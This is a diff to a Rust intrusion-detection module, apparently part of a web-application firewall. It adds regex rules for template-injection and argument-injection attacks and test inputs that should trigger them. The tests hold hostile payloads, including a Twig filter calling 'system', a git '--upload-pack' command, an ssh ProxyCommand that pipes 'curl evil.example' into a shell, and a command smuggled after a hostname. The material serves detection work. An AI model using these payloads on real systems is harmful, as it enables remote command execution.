@@ -318,6 +318,21 @@ impl Rce {
                 RCE_SSTI,
                 r"<!--\s*#\s*(?:exec|include|echo|set|config|fsize|flastmod|printenv)\b",
             ),
+            // Arithmetic probes: `{{7*'7'}}`, `<%= 7*7 %>`, `${7*7}`, `#{7*7}`.
+            (
+                RCE_SSTI,
+                r#"\{\{\s*[0-9]+\s*\*\s*['"]?[0-9]+['"]?\s*\}\}|<%=?\s*[0-9]+\s*\*\s*[0-9]+\s*%>|[$#]\{\s*[0-9]+\s*\*\s*[0-9]+\s*\}"#,
+            ),
+            // Twig: `{{['id']|filter('system')}}`.
+            (
+                RCE_SSTI,
+                r#"\|\s*(?:filter|map|sort|reduce)\s*\(\s*['"](?:system|exec|passthru|shell_exec|popen|proc_open)['"]"#,
+            ),
+            // Options that make git, ssh, tar or rsync run a command of the caller's choosing.
+            (
+                RCE_ARGUMENT_INJECTION,
+                r"(?:^|\s)(?:--(?:upload-pack|receive-pack|exec|checkpoint-action|to-command|use-compress-program|rsh)\s*=|-o\s*['\x22]?proxycommand\s*=|(?:-c|--config)[\s=]+core\.(?:sshcommand|gitproxy|fsmonitor|pager|editor|hookspath)\s*=)",
+            ),
             (RCE_SSTI_LOOSE, r"<%=?[^%]{1,200}%>"),
             (
                 RCE_SSTI_LOOSE,
@@ -368,8 +383,13 @@ impl Rce {
         }
     }
 
-    pub(crate) fn scan_header(&self, v: &Variants, sink: &mut Sink<'_>) {
+    /// Headers other than `User-Agent` and `Referer`: shellshock, and the pattern rules
+    /// (`${IFS}`, `/dev/tcp/`, template injection, ...), which need no shell scan.
+    pub(crate) fn scan_header(&self, v: &Variants, sink: &mut Sink<'_>, lower_may_match: bool) {
         self.header_patterns.scan(v.lower(), sink);
+        if lower_may_match {
+            self.patterns.scan(v.lower(), sink);
+        }
     }
 
     pub(crate) fn scan_filename(&self, v: &Variants, sink: &mut Sink<'_>) {
@@ -493,7 +513,8 @@ impl Rce {
             if !expect_cmd {
                 continue;
             }
-            let clean = clean_word(raw);
+            // A redirection ends the command word (`cat</etc/passwd`, `rev<<<'di'`).
+            let clean = clean_word(raw.split(['<', '>']).next().unwrap_or(raw));
             if clean.is_empty() {
                 continue;
             }
@@ -969,6 +990,12 @@ mod tests {
                 "example.org\nid\n",
                 "eth0\nid",
                 "1.1.1.1\nping 10.0.0.1",
+                "example.com||$(rev<<<'di')",
+                "{{7*'7'}}",
+                "<%= 7*7 %>",
+                "{{['id']|filter('system')}}",
+                "--upload-pack=touch /tmp/pwned",
+                "-oProxyCommand=curl evil.example|sh",
             ],
         );
     }
